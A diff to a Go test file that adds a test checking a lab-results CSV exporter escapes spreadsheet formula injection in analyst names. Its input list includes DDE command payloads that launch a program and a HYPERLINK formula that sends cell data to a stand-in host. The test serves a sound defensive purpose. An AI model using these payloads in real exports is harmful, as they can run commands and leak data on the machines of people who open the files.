@@ -2,6 +2,7 @@ package lab_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"strings"
 	"testing"
 
@@ -100,4 +101,41 @@ func TestWriteJSON(t *testing.T) {
 	if err := lab.WriteJSON(&buf, nil); err != nil || strings.TrimSpace(buf.String()) != `{"results":[]}` {
 		t.Errorf("WriteJSON(nil) = %q, %v", buf.String(), err)
 	}
+}
+
+// TestCSVExportNeutralisesFormulas exports hostile analyst names: each
+// must reach the spreadsheet as text (a leading apostrophe) and read back
+// unchanged; numbers stay numbers.
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	hostile := []string{
+		`=cmd|' /C calc'!A0`, "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", `=HYPERLINK("http://x.test/?"&A1,"click")`,
+		"-2+3", "'=already escaped", "''@twice", "'plain apostrophe", "=", "-", "Li",
+	}
+	var results []benchmark.Result
+	for i, name := range hostile {
+		results = append(results, benchmark.Result{
+			Sample: "BZ-01", Indicator: "water_extract", Replicate: i + 1, Reported: "-3.81", Value: new(-3.81),
+			Unit: "%", Method: "GB/T 8305-2013", Lab: "SCTQ", Analyst: name,
+		})
+	}
+	var buf bytes.Buffer
+	if err := lab.WriteCSV(&buf, results); err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, record := range records[1:] {
+		if record[2] != "-3.81" {
+			t.Errorf("value %q: a number must not be escaped", record[2])
+		}
+		switch analyst := record[9]; {
+		case analyst == "Li", analyst == "'plain apostrophe":
+		case !strings.HasPrefix(analyst, "'"):
+			t.Errorf("analyst %q reaches the spreadsheet as a formula", analyst)
+		}
+	}
+	back := mustCheck(t, lab.CSV, buf.String())
+	assertSameResults(t, back, results)
 }
